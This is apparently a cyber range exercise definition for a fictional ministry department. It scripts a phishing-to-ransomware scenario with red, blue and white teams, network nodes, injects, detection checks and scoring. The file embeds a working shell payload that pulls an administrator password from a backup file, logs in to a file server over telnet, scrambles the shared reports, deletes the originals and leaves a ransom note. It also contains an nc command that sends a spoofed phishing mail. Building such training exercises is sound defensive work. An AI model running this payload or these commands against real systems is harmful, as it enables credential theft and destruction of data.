-- Phishing to ransomware at a ministry department: a security-level-3
-- office network (Decree 85/2016). A phishing mail reaches the accounting
-- clerk; the attachment, once opened, takes the administrator password from
-- a backup file left on the workstation, logs in to the file server and
-- encrypts the shared reports. Smaller than provincial-portal, and shows
-- that the same language covers a different story.
-- Language reference: docs/scenario-language.md.

scenario {
  name = "ministry-ransomware",
  title = "Diễn tập: Thư lừa đảo dẫn tới mã độc tống tiền tại Vụ Kế hoạch - Tài chính",
  description = "Thư điện tử giả mạo gửi tới kế toán; tệp đính kèm mã hóa dữ liệu trên "
             .. "máy chủ tệp. Đội ứng cứu phải phát hiện thư lừa đảo và hành vi mã hóa.",
  organisation = "Bộ Kế hoạch và Phát triển (giả định)",
  year = 2026,
  security_level = 3,
  duration = "90m",
  seed = 20261122,
}

team "white" { role = "white", display_name = "Ban tổ chức" }
team "red1"  { role = "red", display_name = "Nhóm tấn công", members = 3 }
team "blue1" { role = "blue", display_name = "Đội ứng cứu sự cố của Bộ", members = 5 }

network "dmz"    { cidr = "10.20.1.0/24", zone = "per_team", description = "mail relay" }
network "office" { cidr = "10.20.2.0/24", zone = "per_team", description = "staff and file server" }
network "red"    { cidr = "172.31.0.0/24", zone = "shared", description = "the Internet" }

allow { from = "red", to = "mail", protocol = "tcp", ports = {25}, description = "inbound mail" }
allow { from = "office", to = "dmz", description = "staff use the mail relay" }

node "mail" {
  template = "micro", security_level = 3, value = 1, role = "Máy chủ thư (SMTP relay)",
  iface { network = "dmz", address = "10.20.1.10" },
  service "smtp" { port = 25, reachable_from = {"red", "office"},
                   check = { kind = "smtp", expect = "220" } },
  vuln "smtp-vrfy-enum" { cwe = "CWE-204", severity = "low", service = "smtp", cost = 3,
                          effect = "information" },
}

node "ketoan-ws" {
  template = "micro", security_level = 3, value = 1, role = "Máy trạm kế toán",
  iface { network = "office", address = "10.20.2.20" },
  vuln "world-readable-secret" { cwe = "CWE-732", severity = "medium", cost = 1,
                                 yields = { credential = "office-admin" },
                                 description = "the IT department's setup notes, readable by all" },
  account { user = "admin", password = "KhTc@2025", admin = true, credential = "office-admin" },
}

node "fileserver" {
  template = "micro", security_level = 3, value = 3, role = "Máy chủ tệp (báo cáo tài chính)",
  iface { network = "office", address = "10.20.2.10" },
  service "http" { port = 80, reachable_from = {"office"},
                   check = { kind = "http", path = "/share/baocao-2026.txt", expect = "BAO CAO" } },
  service "telnet" { port = 23, reachable_from = {"office"} },
  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2,
                         credential = "office-admin",
                         description = "administrator password shared with the workstations" },
  account { user = "admin", password = "KhTc@2025", admin = true, credential = "office-admin" },
  file { path = "/www/share/baocao-2026.txt", content = "BAO CAO TAI CHINH 2026 - MAT\n" },
  file { path = "/www/share/ngansach-q4.txt", content = "BAO CAO NGAN SACH QUY 4\n" },
}

node "attacker" {
  template = "micro", role = "phishing sender",
  iface { network = "red", address = "172.31.0.10" },
}

objective "encrypt-share" { kind = "persist", node = "fileserver",
                            path = "/www/share/README-DECRYPT.txt", points = 100,
                            description = "Leave the ransom note after encrypting the share" }
objective "share-up" { kind = "keep_available", node = "fileserver", service = "http" }
objective "mail-up" { kind = "keep_available", node = "mail", service = "smtp" }

-- The attachment: a shell script the clerk "opens". FILESERVER is replaced by
-- the file server's address in the team's copy.
local PAYLOAD = [[
#!/bin/sh
c=$(grep -v '^#' /var/backups/credentials.txt | grep -m1 ':')
u=${c%%:*}; p=${c#*:}
(sleep 3; echo "$u"; sleep 2; echo "$p"; sleep 2
 echo 'cd /www/share && for f in *.txt; do tr A-Za-z N-ZA-Mn-za-m < $f > $f.locked && rm $f; done; echo "Files encrypted. Pay 5 BTC." > README-DECRYPT.txt'
 sleep 3) | telnet FILESERVER 23
#END
]]

inject "phishing-mail" {
  owner = "red", technique = "T1566.001", target = "mail", at = "00:05:00",
  description = "Send a fake invoice with a script attached to the accounting clerk",
  run = function(ctx)
    local body = "Subject: Hoa don thang 11\r\n\r\nKinh gui phong ke toan, hoa don dinh kem.\r\n"
                 .. PAYLOAD:gsub("FILESERVER", ctx.addr("fileserver"))
    ctx.put("attacker", "/tmp/mail.txt", body)
    local r = ctx.exec("attacker", string.format(
      "(sleep 2; echo 'HELO kho-bac.example'; sleep 1; echo 'MAIL FROM:<hoadon@kho-bac.example>'; "
      .. "sleep 1; echo 'RCPT TO:<ketoan@bo.example>'; sleep 1; echo DATA; sleep 1; "
      .. "cat /tmp/mail.txt; echo .; sleep 1; echo QUIT; sleep 1) | nc %s 25", ctx.addr("mail")), 60)
    if not r or r.code ~= 0 then return false, "SMTP session failed" end
    local spool = ctx.get("mail", "/var/spool/mail/ketoan")
    return spool ~= nil and spool:find("#END", 1, true) ~= nil, "delivered to ketoan"
  end,
}

inject "user-opens-attachment" {
  owner = "red", technique = "T1204.002", target = "ketoan-ws",
  after = { inject = "phishing-mail", on = "success", delay = "10m" },
  description = "The clerk saves and runs the attachment (user behaviour, simulated)",
  run = function(ctx)
    local spool = ctx.get("mail", "/var/spool/mail/ketoan") or ""
    local script = spool:match("(#!/bin/sh.-#END)")
    if not script then return false, "no attachment in the mailbox" end
    ctx.put("ketoan-ws", "/tmp/hoadon.sh", script:gsub("\r", "") .. "\n", 493)
    local r = ctx.exec("ketoan-ws", "sh /tmp/hoadon.sh", 90)
    return r ~= nil, "attachment executed"
  end,
}

inject "verify-encryption" {
  owner = "red", technique = "T1486", target = "fileserver",
  after = { inject = "user-opens-attachment", on = "success", delay = "1m" },
  description = "Check that the share is encrypted and the ransom note is in place",
  run = function(ctx)
    return ctx.objective("encrypt-share", { node = "fileserver",
                                            path = "/www/share/README-DECRYPT.txt" })
  end,
}

inject "detect-phishing" {
  owner = "blue", technique = "T1566.001", target = "mail", poll = "2m",
  description = "Mail filter: a message from outside carrying a shell script",
  when = function(ctx)
    local spool = ctx.get("mail", "/var/spool/mail/ketoan")
    return spool ~= nil and spool:find("#!/bin/sh", 1, true) ~= nil
  end,
  run = function(ctx)
    ctx.after("15m", function(ctx)
      ctx.report { node = "mail", technique = "T1566.001",
                   description = "Phishing mail with a script attachment to ketoan@" }
    end)
    return true
  end,
}

inject "detect-encryption" {
  owner = "blue", technique = "T1486", target = "fileserver", poll = "3m",
  description = "File integrity monitoring on the share",
  when = function(ctx)
    local r = ctx.exec("fileserver", "ls /www/share")
    return r ~= nil and r.out:find(".locked", 1, true) ~= nil
  end,
  run = function(ctx)
    ctx.report { node = "fileserver", technique = "T1486",
                 description = "Shared reports encrypted (*.locked) and a ransom note left" }
    return true
  end,
}

inject "leadership-briefing" {
  owner = "white", manual = true, response_due = "30m",
  description = "Lãnh đạo Bộ yêu cầu báo cáo nhanh về sự cố mã hóa dữ liệu "
             .. "(leadership asks for a briefing on the ransomware incident)",
}

scoring {
  weights = { availability = 0.25, red_impact = 0.30, detection = 0.30, reports = 0.10,
              penalties = 0.05 },
  check_interval = "60s",
  ttd_full_credit = "10m",
  ttd_zero_credit = "60m",
}
